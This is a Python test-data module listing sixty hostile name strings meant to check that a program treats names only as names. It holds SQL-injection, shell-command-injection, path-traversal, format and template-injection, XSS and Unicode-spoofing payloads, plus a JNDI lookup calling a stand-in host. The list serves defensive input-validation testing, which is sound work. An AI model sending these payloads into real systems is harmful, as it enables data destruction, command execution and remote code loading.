"""Sixty texts that somebody took for more than a name: a shell, a path, a database, a template, a page."""

NAMES = (
    # SQL, also where a key of a counter became a query.
    "'; DROP TABLE mailbox;--", "' OR '1'='1", '" OR ""="', "a'--", "') OR 1=1--", "1;ATTACH DATABASE '/tmp/x' AS y",
    "\\'; SELECT 1", "x' UNION SELECT 1,2--", "';VACUUM INTO '/tmp/x';--", "%' LIKE '%",
    # Shells.
    "$(touch /tmp/mayfly-x)", "`touch /tmp/mayfly-x`", "|touch /tmp/mayfly-x", ";touch /tmp/mayfly-x;", "&& id",
    "${IFS}id", "$HOME", "~root", "-rf", "--help", "-oQ/tmp/x", "\n.\nid", "$((1+1))", "!!", "*", "?", "[a-z]*",
    # Paths.
    "../../etc/passwd", "..\\..\\x", "/etc/passwd", "/dev/null", "C:\\x", "CON", "nul.", ".", "..", ".htaccess",
    "....//x", "%2e%2e%2fx", "x/../../y", "keys/shares", "index.db", "a" * 64, "{a,b}",
    # Formats and templates.
    "%s%s%n", "%00", "%d", "{0.__class__}", "{{7*7}}", "${7*7}", "<%= 7*7 %>", "#{7*7}", "${jndi:ldap://x.example/a}",
    # Pages.
    "<script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "javascript:alert(1)", "&lt;b&gt;",
    # Letters that are not what they seem, and a backslash at the end.
    "ａｄｍｉｎ", "\u202egnp.exe", "a\u200bb", "x\\",
)  # fmt: skip
